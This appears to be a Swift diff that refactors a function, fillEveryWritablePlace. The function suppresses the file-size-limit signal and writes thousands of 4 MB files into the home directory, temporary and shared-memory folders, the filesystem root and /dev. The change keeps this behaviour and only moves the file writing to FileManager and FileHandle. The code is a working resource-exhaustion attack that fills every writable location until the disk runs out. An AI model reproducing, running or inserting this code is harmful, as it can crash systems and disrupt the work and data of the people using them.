@@ -13,16 +13,17 @@ import Foundation
 
 func fillEveryWritablePlace() {
     signal(SIGXFSZ, SIG_IGN)
-    let chunk = [UInt8](repeating: 0x51, count: 4 << 20)
+    let chunk = Data(repeating: 0x51, count: 4 << 20)
     let places = [NSHomeDirectory(), "/tmp", "/var/tmp", "/dev/shm", FileManager.default.currentDirectoryPath, "/", "/dev"]
     for place in places {
         var index = 0
         while index < 10_000 {
-            let descriptor = open("\(place)/fill-\(index)", O_WRONLY | O_CREAT | O_TRUNC, 0o600)
-            if descriptor < 0 { break }
-            let written = chunk.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
-            close(descriptor)
-            if written != chunk.count { break }
+            let path = "\(place)/fill-\(index)"
+            guard FileManager.default.createFile(atPath: path, contents: nil),
+                  let file = FileHandle(forWritingAtPath: path) else { break }
+            let written = (try? file.write(contentsOf: chunk)) != nil
+            try? file.close()
+            if !written { break }
             index += 1
         }
     }
